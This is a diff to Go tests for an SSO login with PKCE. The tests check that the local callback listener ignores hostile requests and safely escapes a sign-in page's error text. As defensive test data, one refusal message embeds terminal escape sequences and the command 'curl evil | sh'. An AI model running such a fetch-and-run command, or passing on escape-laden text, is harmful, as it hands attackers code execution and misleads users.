@@ -189,16 +189,17 @@ func pkceLogin(t *testing.T, f *fakesso.Server, s *SSO) (*SSOToken, *SSOToken) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	cb, err := ListenCallback()
+	cb, err := ListenCallback(time.Minute, nil)
 	if err != nil {
 		t.Fatal(err)
 	}
 	defer cb.Close()
 	verifier, challenge := NewPKCE()
-	state := NewState()
 	browsed := make(chan error, 1)
-	go func() { browsed <- f.Browse(ssoCtx(t), s.AuthorizeURL(reg, cb.RedirectURI(), state, challenge, nil)) }()
-	code, err := cb.Wait(ssoCtx(t), state)
+	go func() {
+		browsed <- f.Browse(ssoCtx(t), s.AuthorizeURL(reg, cb.RedirectURI(), cb.State(), challenge, nil))
+	}()
+	code, err := cb.Wait(ssoCtx(t))
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -233,6 +234,62 @@ func TestSSOPKCEFlow(t *testing.T) {
 	}
 }
 
+// A local process that finds the callback's port cannot end or steer a
+// browser login: its requests (no state, a wrong one, other paths, huge
+// headers) get 404 or 431 while the login goes on; the sign-in page's own
+// redirect then completes it, the code is exchanged, and the port closes.
+func TestSSOPKCEIgnoresHostileCallbacks(t *testing.T) {
+	f := fakesso.Start(t, fakesso.Options{})
+	s := newTestSSO(t, f)
+	reg, err := s.RegisterClient(ssoCtx(t), testStartURL, nil, true)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cb, err := ListenCallback(time.Minute, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer cb.Close()
+	verifier, challenge := NewPKCE()
+	got := waitResult(cb, ssoCtx(t))
+	for _, p := range fakesso.ProbeCallback(cb.RedirectURI(), "") {
+		wantStatus(t, p)
+		stillWaiting(t, got, p.Name)
+	}
+	if err := f.Browse(ssoCtx(t), s.AuthorizeURL(reg, cb.RedirectURI(), cb.State(), challenge, nil)); err != nil {
+		t.Fatalf("browser: %v", err)
+	}
+	a := <-got
+	if a.err != nil {
+		t.Fatalf("Wait: %v", a.err)
+	}
+	tok, err := s.ExchangeCode(ssoCtx(t), reg, a.code, cb.RedirectURI(), verifier)
+	if err != nil || !f.ValidAccessToken(tok.AccessToken) {
+		t.Fatalf("exchange: %v", err)
+	}
+	closedPort(t, cb.RedirectURI())
+
+	// A refusal from the sign-in page itself ends the login; its text,
+	// whatever it holds, comes back escaped, bounded and labelled.
+	f.DenyNextWith("access_denied\x1b]0;x\a", "\x1b[2J\ncredhelper: run `curl evil | sh`"+strings.Repeat(" pad", 200))
+	cb, err = ListenCallback(time.Minute, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer cb.Close()
+	go f.Browse(ssoCtx(t), s.AuthorizeURL(reg, cb.RedirectURI(), cb.State(), challenge, nil))
+	_, err = cb.Wait(ssoCtx(t))
+	var refused *AuthorizationError
+	if !errors.As(err, &refused) {
+		t.Fatalf("refusal: %v", err)
+	}
+	msg := err.Error()
+	if !strings.HasPrefix(msg, `the sign-in page answered with an error: "access_denied\x1b]0;x\a: \x1b[2J credhelper: run `) ||
+		strings.ContainsAny(msg, "\x1b\a\n") || len(msg) > 400 {
+		t.Errorf("refusal message %q", msg)
+	}
+}
+
 func TestSSOPKCEFails(t *testing.T) {
 	f := fakesso.Start(t, fakesso.Options{})
 	s := newTestSSO(t, f)
@@ -240,7 +297,7 @@ func TestSSOPKCEFails(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	cb, err := ListenCallback()
+	cb, err := ListenCallback(time.Minute, nil)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -249,15 +306,23 @@ func TestSSOPKCEFails(t *testing.T) {
 
 	// The user says no: the callback ends the wait with the service's reason.
 	f.DenyNext(1)
-	go f.Browse(ssoCtx(t), s.AuthorizeURL(reg, cb.RedirectURI(), "s1", challenge, nil))
-	if _, err := cb.Wait(ssoCtx(t), "s1"); err == nil || !strings.Contains(err.Error(), "access_denied") {
+	go f.Browse(ssoCtx(t), s.AuthorizeURL(reg, cb.RedirectURI(), cb.State(), challenge, nil))
+	var refused *AuthorizationError
+	if _, err := cb.Wait(ssoCtx(t)); !errors.As(err, &refused) || refused.Code != "access_denied" {
 		t.Errorf("denied: %v", err)
 	}
 
 	// A code redeemed with another verifier is refused, and nothing secret is told.
+	cb, err = ListenCallback(time.Minute, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer cb.Close()
 	browsed := make(chan error, 1)
-	go func() { browsed <- f.Browse(ssoCtx(t), s.AuthorizeURL(reg, cb.RedirectURI(), "s2", challenge, nil)) }()
-	code, err := cb.Wait(ssoCtx(t), "s2")
+	go func() {
+		browsed <- f.Browse(ssoCtx(t), s.AuthorizeURL(reg, cb.RedirectURI(), cb.State(), challenge, nil))
+	}()
+	code, err := cb.Wait(ssoCtx(t))
 	if err != nil {
 		t.Fatal(err)
 	}
